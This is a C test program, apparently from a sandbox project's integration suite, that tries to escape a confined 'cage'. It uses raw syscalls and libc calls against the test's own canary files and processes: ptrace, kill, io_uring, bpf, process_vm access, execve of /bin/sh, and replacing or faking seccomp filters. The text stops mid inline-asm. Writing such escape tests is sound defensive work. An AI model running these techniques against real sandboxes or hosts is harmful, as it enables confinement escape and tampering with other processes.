/*
 * An attacker for tests/integration/escape.sh: each attack (argv[1]) tries
 * to reach the host, first with raw `syscall` instructions (inline asm: no
 * libc wrapper, no client-libc stub), then with libc calls.  Raw first: a
 * client-libc stub attaches the process on its first use, after which the
 * raw calls would be confined whatever happened before.
 *
 * Built in several places code can run (escape.sh compiles each):
 *   default        main (client-libc attached before it)
 *   -DESC_CTOR     a constructor(101) placed before client-libc's
 *   -DESC_PREINIT  a .preinit_array entry
 *   -DESC_NOSTART  the program's own _start (-nostartfiles); with
 *                  -DESC_NOLIBC (static) nothing of libc is usable there:
 *                  no TLS, no IRELATIVE relocations, so raw calls only
 *   -DESC_NATIVE   plain cc -static, no client-libc (it holds the marker
 *                  text lind-run once looked for)
 *
 * Attacks (the table at the end): host files, network, signals, ptrace,
 * exec, mounts and namespaces, kernel objects (bpf, io_uring, perf,
 * userfaultfd), process_vm_*, seccomp and prctl, fork and clone, the
 * SIGSYS trap, forged magic, crafted signal frames, the channel, threads,
 * the x32 and i386 ABIs, a bound tree's symlinks.
 *
 * Usage: escape ATTACK DIR PORT SLEEP SERVER RELAY PARENT VMADDR
 * DIR holds the host canary files; PORT a host listener on 127.0.0.1;
 * SLEEP, SERVER, RELAY, PARENT host pids (a sleep, the daemons, lind-run);
 * VMADDR an address mapped in SLEEP.  Every attempt prints one line
 * "NAME: RESULT": an errno name, "allowed" (harmless when it works, e.g.
 * a socket), or "ok" when the host kernel did what a cage must never get
 * (escape.sh counts every "ok" as an escape, beside what it sees itself).
 * Only the test's own files and processes are ever targeted: the daemons
 * run as whoever runs the test, maybe root, and so does this attacker
 * when it gets out.
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <linux/bpf.h>
#include <linux/futex.h>
#include <linux/filter.h>
#include <linux/io_uring.h>
#include <linux/perf_event.h>
#include <linux/sched.h>
#include <linux/seccomp.h>
#include <linux/userfaultfd.h>
#include <netinet/in.h>
#include <pthread.h>
#include <sched.h>
#include <signal.h>
#include <spawn.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <sys/mman.h>
#include <sys/mount.h>
#include <sys/prctl.h>
#include <sys/resource.h>
#include <sys/ptrace.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/uio.h>
#include <sys/wait.h>
#include <ucontext.h>
#include <unistd.h>

#include "protocol.h" /* the channel's layout: public, like the source */

#ifdef ESC_NOLIBC
#define HAVE_LIBC 0
#else
#define HAVE_LIBC 1
#endif

#define HOST_MAGIC 0x4c494e44484f5354l /* client-libc/client.h */
#define PROBE_NR 0x4c4e                /* LIND_PROBE_NR */

/* client-libc's struct lind_client (client.h), as an attacker sees it */
struct client {
	uint32_t version;
	int sock;
	uint64_t cage_id;
	struct lind_chan *chan;
};
extern struct client *lind_cl __attribute__((weak));

#ifdef ESC_NATIVE
/* What lind-run used to look for to tell a cage program from a host one. */
__attribute__((used)) const char fake_marker[] = "LIND-CLIENT-LIBC";
#endif

#include "raw_syscall.h"
#define raw(nr, a0, a1, a2) raw6(nr, (long)(a0), (long)(a1), (long)(a2), 0, 0, 0)
#define L(x) ((long)(x))

__attribute__((noreturn)) static void raw_exit(int st)
{
	raw6(SYS_exit_group, st, 0, 0, 0, 0, 0);
	for (;;)
		raw6(SYS_exit, st, 0, 0, 0, 0, 0);
}

/* ---- output without libc (a -nostartfiles static program has none) ---- */

static void zero(void *p, size_t n)
{
	volatile char *c = p;
	while (n--)
		*c++ = 0;
}

struct line {
	char b[512];
	size_t n;
};

static void add(struct line *l, const char *s)
{
	while (*s && l->n < sizeof l->b - 2)
		l->b[l->n++] = *s++;
}

static void addn(struct line *l, long v)
{
	char d[24];
	int i = 0;
	unsigned long u = v < 0 ? -(unsigned long)v : (unsigned long)v;
	if (v < 0)
		add(l, "-");
	do
		d[i++] = (char)('0' + u % 10);
	while ((u /= 10) && i < 23);
	while (i-- > 0 && l->n < sizeof l->b - 2)
		l->b[l->n++] = d[i];
}

static void emit(struct line *l)
{
	l->b[l->n++] = '\n';
	raw(SYS_write, 1, l->b, l->n);
	l->n = 0;
}

static const char *ename(long e)
{
	static const struct {
		int e;
		const char *n;
	} t[] = {
		{EPERM, "EPERM"}, {ENOENT, "ENOENT"}, {ESRCH, "ESRCH"},
		{EINTR, "EINTR"}, {EIO, "EIO"}, {ENXIO, "ENXIO"},
		{E2BIG, "E2BIG"}, {ENOEXEC, "ENOEXEC"}, {EBADF, "EBADF"},
		{ECHILD, "ECHILD"}, {EAGAIN, "EAGAIN"}, {ENOMEM, "ENOMEM"},
		{EACCES, "EACCES"}, {EFAULT, "EFAULT"}, {EBUSY, "EBUSY"},
		{EEXIST, "EEXIST"}, {EXDEV, "EXDEV"}, {ENODEV, "ENODEV"},
		{ENOTDIR, "ENOTDIR"}, {EISDIR, "EISDIR"}, {EINVAL, "EINVAL"},
		{ENFILE, "ENFILE"}, {EMFILE, "EMFILE"}, {ENOSPC, "ENOSPC"},
		{EROFS, "EROFS"}, {EPIPE, "EPIPE"}, {ERANGE, "ERANGE"},
		{ENAMETOOLONG, "ENAMETOOLONG"}, {ENOSYS, "ENOSYS"},
		{ENOTEMPTY, "ENOTEMPTY"}, {ELOOP, "ELOOP"},
		{ENOTSOCK, "ENOTSOCK"}, {EOPNOTSUPP, "EOPNOTSUPP"},
		{EAFNOSUPPORT, "EAFNOSUPPORT"}, {ECONNREFUSED, "ECONNREFUSED"},
		{ETIMEDOUT, "ETIMEDOUT"}, {EPROTONOSUPPORT, "EPROTONOSUPPORT"},
	};
	for (size_t i = 0; i < sizeof t / sizeof t[0]; i++)
		if (t[i].e == e)
			return t[i].n;
	return "E?";
}

/* NAME: RESULT [detail]; r < 0 is -errno.  good: what success is called. */
static void say(const char *name, long r, const char *good, const char *detail)
{
	struct line l = {.n = 0};
	add(&l, name);
	add(&l, ": ");
	if (r < 0) {
		add(&l, ename(-r));
		if (!*ename(-r) || ename(-r)[1] == '?')
			addn(&l, -r);
	} else {
		add(&l, good);
	}
	if (detail && *detail) {
		add(&l, " ");
		add(&l, detail);
	}
	emit(&l);
}

static void ok_if(const char *name, long r) { say(name, r, "ok", NULL); }
static void allowed(const char *name, long r) { say(name, r, "allowed", NULL); }
/* a libc call: -1 and errno */
static long lc(long r) { return r == -1 ? -errno : r; }

/* ---- configuration ---- */

static struct {
	const char *attack, *dir;
	long port, sleep, server, relay, parent;
	unsigned long vmaddr;
	char canary[256], created[256], renamed[256], sub[256], mnt[256],
		m2[256], touch[300];
} C;

static unsigned long num(const char *s)
{
	unsigned long v = 0, base = 10;
	if (s[0] == '0' && s[1] == 'x')
		base = 16, s += 2;
	for (; *s; s++) {
		int d = *s >= 'a' ? *s - 'a' + 10 : *s - '0';
		v = v * base + (unsigned long)d;
	}
	return v;
}

static void cat(char *out, size_t cap, const char *a, const char *b)
{
	size_t n = 0;
	while (*a && n < cap - 1)
		out[n++] = *a++;
	while (*b && n < cap - 1)
		out[n++] = *b++;
	out[n] = 0;
}

static int configure(int argc, char **argv)
{
	if (argc != 9)
		return -1;
	C.attack = argv[1];
	C.dir = argv[2];
	C.port = (long)num(argv[3]);
	C.sleep = (long)num(argv[4]);
	C.server = (long)num(argv[5]);
	C.relay = (long)num(argv[6]);
	C.parent = (long)num(argv[7]);
	C.vmaddr = num(argv[8]);
	cat(C.canary, 256, C.dir, "/canary");
	cat(C.created, 256, C.dir, "/created");
	cat(C.renamed, 256, C.dir, "/renamed");
	cat(C.sub, 256, C.dir, "/sub");
	cat(C.mnt, 256, C.dir, "/mnt");
	cat(C.m2, 256, C.dir, "/m2");
	cat(C.touch, 300, "touch ", C.dir);
	cat(C.touch, 300, C.touch, "/exec-touched");
	return 0;
}

static int streq(const char *a, const char *b)
{
	while (*a && *a == *b)
		a++, b++;
	return *a == *b;
}

static const char PWNED[] = "PWNED\n";

/* ---- files ---- */

static void show_read_as(const char *name, long fd, int use_libc,
			 const char *good);

/* Show what a host read got: the canary's secret gives it away. */
static void show_read(const char *name, long fd, int use_libc)
{
	show_read_as(name, fd, use_libc, "ok");
}

static void show_read_as(const char *name, long fd, int use_libc,
			 const char *good)
{
	char buf[64];
	if (fd < 0) {
		say(name, fd, good, NULL);
		return;
	}
	long n = HAVE_LIBC && use_libc ? lc(read((int)fd, buf, 40)) : raw(SYS_read, fd, buf, 40);
	if (n < 0) {
		say(name, n, good, "(opened, read failed)");
		return;
	}
	for (long i = 0; i < n; i++)
		if (buf[i] < ' ' || buf[i] > '~')
			buf[i] = '.';
	buf[n] = 0;
	say(name, 0, good, buf);
}

static void atk_read(void)
{
	show_read("open-raw", raw(SYS_open, C.canary, O_RDONLY, 0), 0);
	show_read("openat-raw", raw6(SYS_openat, AT_FDCWD, L(C.canary),
				     O_RDONLY, 0, 0, 0), 0);
	if (!HAVE_LIBC)
		return;
	show_read("open-libc", lc(open(C.canary, O_RDONLY)), 1);
	FILE *f = fopen(C.canary, "r"); /* glibc's internal open, no stub */
	char line[64];
	if (!f) {
		ok_if("fopen-libc", -errno);
		return;
	}
	say("fopen-libc", 0, "ok", fgets(line, sizeof line, f) ? line : "");
	fclose(f);
}

static void append_raw(const char *name, long fd)
{
	if (fd >= 0)
		raw(SYS_write, fd, PWNED, sizeof PWNED - 1);
	ok_if(name, fd);
}

static void atk_write(void)
{
	append_raw("open-append-raw",
		   raw(SYS_open, C.canary, O_WRONLY | O_APPEND, 0));
	append_raw("openat-create-raw",
		   raw6(SYS_openat, AT_FDCWD, L(C.created),
			O_WRONLY | O_CREAT | O_EXCL, 0644, 0, 0));
	ok_if("truncate-raw", raw(SYS_truncate, C.canary, 1, 0));
	if (!HAVE_LIBC)
		return;
	long fd = lc(open(C.canary, O_WRONLY | O_APPEND));
	if (fd >= 0)
		(void)!write((int)fd, PWNED, sizeof PWNED - 1);
	ok_if("open-append-libc", fd);
	ok_if("creat-libc", lc(creat(C.created, 0644)));
	FILE *f = fopen(C.canary, "a");
	if (f)
		fputs(PWNED, f), fclose(f);
	ok_if("fopen-append-libc", f ? 0 : -errno);
	ok_if("truncate-libc", lc(truncate(C.canary, 2)));
}

static void show_ino(const char *name, long r, unsigned long ino)
{
	struct line l = {.n = 0};
	if (r < 0) {
		ok_if(name, r);
		return;
	}
	add(&l, "ino=");
	addn(&l, (long)ino);
	l.b[l.n] = 0;
	say(name, 0, "ok", l.b);
}

static void atk_stat(void)
{
	static struct stat st;
	static struct statx sx;
	show_ino("stat-raw", raw(SYS_stat, C.canary, &st, 0), st.st_ino);
	show_ino("lstat-raw", raw(SYS_lstat, C.canary, &st, 0), st.st_ino);
	show_ino("newfstatat-raw", raw6(SYS_newfstatat, AT_FDCWD, L(C.canary),
					L(&st), 0, 0, 0), st.st_ino);
	show_ino("statx-raw", raw6(SYS_statx, AT_FDCWD, L(C.canary), 0,
				   STATX_INO, L(&sx), 0), sx.stx_ino);
	ok_if("access-raw", raw(SYS_access, C.canary, F_OK, 0));
	if (!HAVE_LIBC)
		return;
	show_ino("stat-libc", lc(stat(C.canary, &st)), st.st_ino);
	show_ino("fstatat-libc", lc(fstatat(AT_FDCWD, C.canary, &st, 0)),
		 st.st_ino);
	ok_if("access-libc", lc(access(C.canary, F_OK)));
}

static void atk_list(void)
{
	static char buf[4096];
	struct line l = {.n = 0};
	long fd = raw(SYS_open, C.dir, O_RDONLY | O_DIRECTORY, 0);
	long n = fd < 0 ? fd : raw(SYS_getdents64, fd, buf, sizeof buf);
	for (long off = 0; n > 0 && off < n;) {
		struct dirent64_k {
			uint64_t ino;
			int64_t off;
			unsigned short reclen;
			unsigned char type;
			char name[];
		} *d = (void *)(buf + off);
		add(&l, d->name);
		add(&l, " ");
		off += d->reclen;
	}
	l.b[l.n] = 0;
	say("getdents-raw", n, "ok", l.b);
	if (!HAVE_LIBC)
		return;
	DIR *dp = opendir(C.dir); /* glibc's internal openat */
	struct dirent *e;
	l.n = 0;
	while (dp && (e = readdir(dp))) {
		add(&l, e->d_name);
		add(&l, " ");
	}
	l.b[l.n] = 0;
	say("opendir-libc", dp ? 0 : -errno, "ok", l.b);
	if (dp)
		closedir(dp);
}

static void atk_rename(void)
{
	ok_if("rename-raw", raw(SYS_rename, C.canary, C.renamed, 0));
	ok_if("renameat2-raw", raw6(SYS_renameat2, AT_FDCWD, L(C.canary),
				    AT_FDCWD, L(C.renamed), 0, 0));
	if (HAVE_LIBC)
		ok_if("rename-libc", lc(rename(C.canary, C.renamed)));
}

static void atk_unlink(void)
{
	ok_if("unlink-raw", raw(SYS_unlink, C.canary, 0, 0));
	ok_if("unlinkat-raw", raw(SYS_unlinkat, AT_FDCWD, C.canary, 0));
	ok_if("rmdir-raw", raw(SYS_rmdir, C.sub, 0, 0));
	if (!HAVE_LIBC)
		return;
	ok_if("unlink-libc", lc(unlink(C.canary)));
	ok_if("remove-libc", lc(remove(C.canary)));
	ok_if("rmdir-libc", lc(rmdir(C.sub)));
}

/* Through the read-only tree the test binds at /bound (its host dir is
 * DIR/../bound): symlinks pointing out of it, absolute and relative, a
 * link to DIR itself, and ".." past its top. */
static void atk_bind(void)
{
	static const char *paths[] = {"/bound/abs", "/bound/rel",
				      "/bound/dirlink/canary",
				      "/bound/../host/canary",
				      "/bound/sub/../../host/canary"};
	struct line l;
	/* the bind is there: its own file reads (served, not an escape) */
	show_read_as("read /bound/inside", raw(SYS_open, "/bound/inside",
					       O_RDONLY, 0), 0, "served");
	for (int i = 0; i < 5; i++) {
		l.n = 0;
		add(&l, "read ");
		add(&l, paths[i]);
		l.b[l.n] = 0;
		show_read(l.b, raw(SYS_open, paths[i], O_RDONLY, 0), 0);
		l.n = 0;
		add(&l, "append ");
		add(&l, paths[i]);
		l.b[l.n] = 0;
		append_raw(l.b, raw(SYS_open, paths[i], O_WRONLY | O_APPEND, 0));
	}
	ok_if("rename-inside", raw(SYS_rename, "/bound/inside", "/bound/moved", 0));
	ok_if("unlink-inside", raw(SYS_unlink, "/bound/inside", 0, 0));
	ok_if("mkdir-inside", raw(SYS_mkdir, "/bound/new", 0755, 0));
	ok_if("symlink-inside", raw(SYS_symlink, C.canary, "/bound/mine", 0));
	append_raw("append-inside", raw(SYS_open, "/bound/inside",
					O_WRONLY | O_APPEND, 0));
	if (HAVE_LIBC)
		show_read("fopen /bound/abs", lc(open("/bound/abs", O_RDONLY)), 1);
}

/* ---- network ---- */

static struct sockaddr_in listener(void)
{
	struct sockaddr_in a;
	zero(&a, sizeof a);
	a.sin_family = AF_INET;
	a.sin_port = (uint16_t)(((C.port & 0xff) << 8) | ((C.port >> 8) & 0xff));
	a.sin_addr.s_addr = 0x0100007f; /* 127.0.0.1, network order */
	return a;
}

static void atk_connect(void)
{
	struct sockaddr_in a = listener();
	long s = raw(SYS_socket, AF_INET, SOCK_STREAM, 0);
	allowed("socket-raw", s);
	ok_if("connect-raw", raw(SYS_connect, s < 0 ? 0 : s, &a, sizeof a));
	long u = raw(SYS_socket, AF_INET, SOCK_DGRAM, 0);
	ok_if("sendto-udp-raw", raw6(SYS_sendto, u < 0 ? 0 : u, L(PWNED), 6,
				     0, L(&a), sizeof a));
	if (!HAVE_LIBC)
		return;
	long t = lc(socket(AF_INET, SOCK_STREAM, 0));
	allowed("socket-libc", t);
	ok_if("connect-libc", lc(connect(t < 0 ? 0 : (int)t,
					 (struct sockaddr *)&a, sizeof a)));
}

/* ---- signals and processes ---- */

static void atk_kill(void)
{
	ok_if("kill-sleep-raw", raw(SYS_kill, C.sleep, SIGKILL, 0));
	ok_if("tgkill-sleep-raw", raw(SYS_tgkill, C.sleep, C.sleep, SIGKILL));
	ok_if("tkill-sleep-raw", raw(SYS_tkill, C.sleep, SIGKILL, 0));
	ok_if("kill-sleep-group-raw", raw(SYS_kill, -C.sleep, SIGKILL, 0));
	long pfd = raw(SYS_pidfd_open, C.sleep, 0, 0);
	ok_if("pidfd_open-sleep-raw", pfd);
	ok_if("pidfd_send_signal-raw",
	      raw6(SYS_pidfd_send_signal, pfd < 0 ? 0 : pfd, SIGKILL, 0, 0, 0, 0));
	ok_if("kill-relay-raw", raw(SYS_kill, C.relay, SIGKILL, 0));
	ok_if("kill-server-raw", raw(SYS_kill, C.server, SIGKILL, 0));
	if (!HAVE_LIBC)
		return;
	ok_if("kill-sleep-libc", lc(kill((pid_t)C.sleep, SIGKILL)));
	ok_if("kill-relay-libc", lc(kill((pid_t)C.relay, SIGKILL)));
	ok_if("kill-server-libc", lc(kill((pid_t)C.server, SIGKILL)));
}

/* What a cage may learn about host pids: nothing. */
static void atk_probe(void)
{
	const long pids[] = {C.server, C.relay, C.sleep, C.parent};
	const char *names[] = {"server", "relay", "sleep", "parent"};
	struct line l;
	for (int i = 0; i < 4; i++) {
		l.n = 0;
		add(&l, "kill0-");
		add(&l, names[i]);
		add(&l, "-raw");
		l.b[l.n] = 0;
		ok_if(l.b, raw(SYS_kill, pids[i], 0, 0));
	}
	ok_if("getpgid-sleep-raw", raw(SYS_getpgid, C.sleep, 0, 0));
	ok_if("getsid-sleep-raw", raw(SYS_getsid, C.sleep, 0, 0));
	ok_if("getpriority-sleep-raw", raw(SYS_getpriority, PRIO_PROCESS, C.sleep, 0));
	ok_if("sched_getscheduler-sleep-raw",
	      raw(SYS_sched_getscheduler, C.sleep, 0, 0));
	if (!HAVE_LIBC)
		return;
	ok_if("kill0-server-libc", lc(kill((pid_t)C.server, 0)));
	ok_if("kill0-sleep-libc", lc(kill((pid_t)C.sleep, 0)));
	ok_if("getpgid-sleep-libc", lc(getpgid((pid_t)C.sleep)));
}

/* PTRACE_ATTACH stops the tracee: wait for that and let it go again, so a
 * successful attack leaves no stopped host process behind. */
static void attach(const char *name, long pid, int use_libc)
{
	long r = use_libc ? lc(ptrace(PTRACE_ATTACH, (pid_t)pid, 0, 0))
			  : raw(SYS_ptrace, PTRACE_ATTACH, pid, 0);
	if (r == 0) {
		int st;
		raw6(SYS_wait4, pid, L(&st), __WALL, 0, 0, 0);
		raw6(SYS_ptrace, PTRACE_DETACH, pid, 0, 0, 0, 0);
	}
	ok_if(name, r);
}

static void atk_ptrace(void)
{
	attach("attach-sleep-raw", C.sleep, 0);
	attach("attach-parent-raw", C.parent, 0);
	ok_if("seize-sleep-raw", raw6(SYS_ptrace, PTRACE_SEIZE, C.sleep, 0, 0, 0, 0));
	if (HAVE_LIBC) {
		attach("attach-sleep-libc", C.sleep, 1);
		attach("attach-parent-libc", C.parent, 1);
	}
	/* last: it makes lind-run our tracer */
	ok_if("traceme-raw", raw(SYS_ptrace, PTRACE_TRACEME, 0, 0));
	if (HAVE_LIBC)
		ok_if("traceme-libc", lc(ptrace(PTRACE_TRACEME, 0, 0, 0)));
}

static char *sh_argv[] = {"sh", "-c", C.touch, NULL};
static char *no_env[] = {NULL};

/* Each exec is its own attack: a success replaces the program. */
static void atk_exec(void)
{
	if (streq(C.attack, "exec-raw")) {
		ok_if("execve-raw", raw(SYS_execve, "/bin/sh", sh_argv, no_env));
	} else if (streq(C.attack, "execveat-raw")) {
		long fd = raw(SYS_open, "/bin/sh", O_PATH, 0);
		if (fd >= 0)
			ok_if("execveat-fd-raw", raw6(SYS_execveat, fd, L(""),
						      L(sh_argv), L(no_env),
						      AT_EMPTY_PATH, 0));
		ok_if("execveat-raw", raw6(SYS_execveat, AT_FDCWD, L("/bin/sh"),
					   L(sh_argv), L(no_env), 0, 0));
	} else if (HAVE_LIBC && streq(C.attack, "exec-libc")) {
		ok_if("execve-libc", lc(execve("/bin/sh", sh_argv, no_env)));
	} else if (HAVE_LIBC && streq(C.attack, "exec-spawn")) {
		pid_t pid;
		int r = posix_spawn(&pid, "/bin/sh", NULL, NULL, sh_argv, no_env);
		int st = 0;
		if (r == 0)
			waitpid(pid, &st, 0);
		/* a cage's posix_spawn and system fork a child cage, which
		 * execs /bin/sh of the virtual filesystem, confined as its
		 * parent: they may run; the host's files (escape.sh) tell
		 * whether anything left the cage */
		allowed("posix_spawn-libc", r ? -r : st);
		allowed("system-libc", lc(system(C.touch)));
	} else {
		say(C.attack, 0, "skipped", "(needs libc)");
	}
}

/* ---- mounts and namespaces (targets under DIR only) ---- */

static void atk_mount(void)
{
	long r = raw6(SYS_mount, L("none"), L(C.mnt), L("tmpfs"), 0, 0, 0);
	ok_if("mount-raw", r);
	ok_if("umount2-own-raw", raw(SYS_umount2, C.mnt, 0, 0));
	ok_if("umount2-host-raw", raw(SYS_umount2, C.m2, MNT_DETACH, 0));
	if (!HAVE_LIBC)
		return;
	ok_if("mount-libc", lc(mount("none", C.mnt, "tmpfs", 0, NULL)));
	ok_if("umount2-own-libc", lc(umount2(C.mnt, 0)));
	ok_if("umount2-host-libc", lc(umount2(C.m2, MNT_DETACH)));
}

static void atk_ns(void)
{
	char ns[64];
	/* DIR/sub is never a mount point: this cannot succeed on the host,
	 * but a host kernel answers EINVAL (root) or EPERM, a cage ENOSYS */
	ok_if("pivot_root-raw", raw(SYS_pivot_root, C.sub, C.sub, 0));
	ok_if("unshare-user-raw", raw(SYS_unshare, CLONE_NEWUSER, 0, 0));
	ok_if("unshare-ns-raw", raw(SYS_unshare, CLONE_NEWNS | CLONE_NEWNET |
				    CLONE_NEWUTS | CLONE_NEWIPC, 0, 0));
	struct line l = {.n = 0};
	add(&l, "/proc/");
	addn(&l, C.sleep);
	add(&l, "/ns/net");
	l.b[l.n] = 0;
	cat(ns, sizeof ns, l.b, "");
	long fd = raw(SYS_open, ns, O_RDONLY, 0);
	ok_if("open-ns-raw", fd);
	ok_if("setns-raw", raw(SYS_setns, fd < 0 ? 0 : fd, CLONE_NEWNET, 0));
	long pfd = raw(SYS_pidfd_open, C.sleep, 0, 0);
	ok_if("setns-pidfd-raw", raw(SYS_setns, pfd < 0 ? 0 : pfd,
				     CLONE_NEWUTS, 0));
	if (HAVE_LIBC) {
		ok_if("unshare-libc", lc(unshare(CLONE_NEWNS)));
		ok_if("setns-libc", lc(setns(0, CLONE_NEWNET)));
		ok_if("chroot-libc", lc(chroot(C.sub)));
	}
	ok_if("chroot-raw", raw(SYS_chroot, C.sub, 0, 0));
}

/* ---- kernel objects that bypass any syscall filter or see the host ---- */

/* Through an io_uring the kernel opens files no filter sees. */
static void uring_open(long fd, struct io_uring_params *p)
{
	long sq = raw6(SYS_mmap, 0, p->sq_off.array + p->sq_entries * 4,
		       PROT_READ | PROT_WRITE, MAP_SHARED, fd, IORING_OFF_SQ_RING);
	long sqes = raw6(SYS_mmap, 0, p->sq_entries * sizeof(struct io_uring_sqe),
			 PROT_READ | PROT_WRITE, MAP_SHARED, fd, IORING_OFF_SQES);
	if (sq < 0 || sqes < 0) {
		ok_if("io_uring-mmap-raw", sq < 0 ? sq : sqes);
		return;
	}
	struct io_uring_sqe *e = (void *)sqes;
	zero(e, sizeof *e);
	e->opcode = IORING_OP_OPENAT;
	e->fd = AT_FDCWD;
	e->addr = (unsigned long)C.created;
	e->open_flags = O_WRONLY | O_CREAT;
	e->len = 0644;
	uint32_t *tail = (void *)(sq + p->sq_off.tail);
	uint32_t *arr = (void *)(sq + p->sq_off.array);
	arr[*tail & *(uint32_t *)(sq + p->sq_off.ring_mask)] = 0;
	__atomic_store_n(tail, *tail + 1, __ATOMIC_RELEASE);
	ok_if("io_uring-openat-raw", raw6(SYS_io_uring_enter, fd, 1, 1,
					  IORING_ENTER_GETEVENTS, 0, 0));
}

static void atk_kernel(void)
{
	static union bpf_attr ba;
	static struct io_uring_params up;
	static struct perf_event_attr pa;
	ba.map_type = BPF_MAP_TYPE_ARRAY;
	ba.key_size = 4, ba.value_size = 4, ba.max_entries = 1;
	ok_if("bpf-raw", raw(SYS_bpf, BPF_MAP_CREATE, &ba, sizeof ba));
	long u = raw(SYS_io_uring_setup, 4, &up, 0);
	ok_if("io_uring_setup-raw", u);
	if (u >= 0)
		uring_open(u, &up);
	pa.type = PERF_TYPE_SOFTWARE;
	pa.size = sizeof pa;
	pa.config = PERF_COUNT_SW_TASK_CLOCK;
	ok_if("perf_event_open-sleep-raw", raw6(SYS_perf_event_open, L(&pa),
						C.sleep, -1, -1, 0, 0));
	ok_if("perf_event_open-self-raw", raw6(SYS_perf_event_open, L(&pa), 0,
					       -1, -1, 0, 0));
	ok_if("userfaultfd-raw", raw(SYS_userfaultfd, UFFD_USER_MODE_ONLY, 0, 0));
	ok_if("kcmp-sleep-raw", raw6(SYS_kcmp, 0, C.sleep, 0 /* KCMP_FILE */, 0, 0, 0));
	static char handle[sizeof(struct file_handle) + 128];
	((struct file_handle *)handle)->handle_bytes = 128;
	int mnt;
	ok_if("name_to_handle_at-raw", raw6(SYS_name_to_handle_at, AT_FDCWD,
					    L(C.canary), L(handle), L(&mnt), 0, 0));
	if (!HAVE_LIBC)
		return;
	ok_if("bpf-libc", lc(syscall(SYS_bpf, BPF_MAP_CREATE, &ba, sizeof ba)));
	ok_if("io_uring_setup-libc", lc(syscall(SYS_io_uring_setup, 4, &up)));
	ok_if("perf_event_open-libc", lc(syscall(SYS_perf_event_open, &pa,
						 (pid_t)C.sleep, -1, -1, 0)));
	ok_if("userfaultfd-libc", lc(syscall(SYS_userfaultfd, UFFD_USER_MODE_ONLY)));
}

/* Read 8 bytes of the host sleep's stack and write them back unchanged. */
static void atk_vm(void)
{
	static uint64_t word;
	struct iovec mine = {&word, 8}, theirs = {(void *)C.vmaddr, 8};
	ok_if("process_vm_readv-raw", raw6(SYS_process_vm_readv, C.sleep,
					   L(&mine), 1, L(&theirs), 1, 0));
	ok_if("process_vm_writev-raw", raw6(SYS_process_vm_writev, C.sleep,
					    L(&mine), 1, L(&theirs), 1, 0));
	if (!HAVE_LIBC)
		return;
	ok_if("process_vm_readv-libc", lc(process_vm_readv((pid_t)C.sleep,
							   &mine, 1, &theirs, 1, 0)));
	ok_if("process_vm_writev-libc", lc(process_vm_writev((pid_t)C.sleep,
							     &mine, 1, &theirs, 1, 0)));
}

/* ---- replacing or faking the filter ---- */

static struct sock_filter allow_all[] = {
	BPF_STMT(BPF_RET | BPF_K, SECCOMP_RET_ALLOW)};
static struct sock_fprog allow_prog = {1, allow_all};

static void host_append(const char *name)
{
	append_raw(name, raw(SYS_open, C.canary, O_WRONLY | O_APPEND, 0));
}

static void atk_seccomp(void)
{
	allowed("no_new_privs-raw", raw6(SYS_prctl, PR_SET_NO_NEW_PRIVS, 1, 0, 0, 0, 0));
	allowed("seccomp-allow-all-raw", raw(SYS_seccomp, SECCOMP_SET_MODE_FILTER,
					     0, &allow_prog));
	allowed("seccomp-tsync-raw", raw(SYS_seccomp, SECCOMP_SET_MODE_FILTER,
					 SECCOMP_FILTER_FLAG_TSYNC, &allow_prog));
	allowed("prctl-seccomp-raw", raw6(SYS_prctl, PR_SET_SECCOMP,
					  SECCOMP_MODE_FILTER, L(&allow_prog),
					  0, 0, 0));
	ok_if("no_new_privs-clear-raw",
	      raw6(SYS_prctl, PR_SET_NO_NEW_PRIVS, 0, 0, 0, 0, 0));
	if (HAVE_LIBC)
		allowed("prctl-seccomp-libc", lc(prctl(PR_SET_SECCOMP,
						       SECCOMP_MODE_FILTER, &allow_prog)));
	host_append("then-open-append-raw");
}

/* Make seccomp() and prctl(PR_SET_SECCOMP) "succeed" without doing
 * anything, then let client-libc attach (any stub does it): it would
 * believe its filter installed. */
static void atk_seccomp_fake(void)
{
	static struct sock_filter f[] = {
		BPF_STMT(BPF_LD | BPF_W | BPF_ABS, offsetof(struct seccomp_data, nr)),
		BPF_JUMP(BPF_JMP | BPF_JEQ | BPF_K, SYS_seccomp, 3, 0),
		BPF_JUMP(BPF_JMP | BPF_JEQ | BPF_K, SYS_prctl, 0, 3),
		BPF_STMT(BPF_LD | BPF_W | BPF_ABS, offsetof(struct seccomp_data, args[0])),
		BPF_JUMP(BPF_JMP | BPF_JEQ | BPF_K, PR_SET_SECCOMP, 0, 1),
		BPF_STMT(BPF_RET | BPF_K, SECCOMP_RET_ERRNO | 0),
		BPF_STMT(BPF_RET | BPF_K, SECCOMP_RET_ALLOW),
	};
	/* the nr jump above lands on the ERRNO return for seccomp itself */
	static struct sock_fprog p = {sizeof f / sizeof f[0], f};
	raw6(SYS_prctl, PR_SET_NO_NEW_PRIVS, 1, 0, 0, 0, 0);
	allowed("seccomp-fake-filter-raw",
		raw(SYS_seccomp, SECCOMP_SET_MODE_FILTER, 0, &p));
	if (HAVE_LIBC)
		allowed("attach-now-libc", getppid()); /* a stub: attaches */
	host_append("then-open-append-raw");
}

/* ---- children ---- */

/* What an escaped child does: host file, host network, then exit. */
static void child_attack(const char *who)
{
	struct line l = {.n = 0};
	add(&l, who);
	add(&l, "-child-open-append-raw");
	l.b[l.n] = 0;
	host_append(l.b);
	struct sockaddr_in a = listener();
	long s = raw(SYS_socket, AF_INET, SOCK_STREAM, 0);
	l.n = 0;
	add(&l, who);
	add(&l, "-child-connect-raw");
	l.b[l.n] = 0;
	ok_if(l.b, raw(SYS_connect, s < 0 ? 0 : s, &a, sizeof a));
	raw_exit(0);
}

/* r from a fork-like call: 0 in the child, which attacks; the parent
 * reaps it and says what it got. */
static void forked(const char *name, long r)
{
	if (r == 0)
		child_attack(name);
	allowed(name, r);
	if (r > 0) {
		int st = 0;
		raw6(SYS_wait4, r, L(&st), __WALL, 0, 0, 0);
	}
}

/* vfork shares our memory and stack: the child runs straight-line asm. */
static long raw_vfork_append(void)
{
	long r;
	__asm__ volatile(
		"mov $58, %%eax\n\tsyscall\n\t"
		"test %%rax, %%rax\n\tjnz 1f\n\t"
		"mov $2, %%eax\n\tmov %1, %%rdi\n\tmov $0x401, %%esi\n\t"
		"xor %%edx, %%edx\n\tsyscall\n\t"
		"mov %%rax, %%rdi\n\tmov $1, %%eax\n\tmov %2, %%rsi\n\t"
